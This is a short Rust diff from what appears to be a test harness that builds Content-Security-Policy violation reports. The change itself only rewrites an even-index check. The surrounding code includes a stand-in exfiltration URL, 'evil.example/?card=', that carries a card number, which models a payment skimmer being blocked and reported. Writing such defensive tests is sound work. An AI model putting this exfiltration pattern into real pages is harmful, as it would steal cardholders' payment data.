@@ -84,7 +84,7 @@ pub fn wrong_fields(attempt: &Attempt<'_>) -> Exchange {
 pub fn reports(attempt: &Attempt<'_>) -> Exchange {
     let (number, page) = (attempt.card.number.as_str(), format!("https://{}{}", attempt.host, attempt.path));
     let called = format!("https://evil.example/?card={number}");
-    let (kind, body) = if attempt.index % 2 == 0 {
+    let (kind, body) = if attempt.index.is_multiple_of(2) {
         let report =
             json!({"documentURL": page, "effectiveDirective": "connect-src", "blockedURL": called, "sample": number});
         ("application/reports+json", json!([{"type": "csp-violation", "body": report}]))
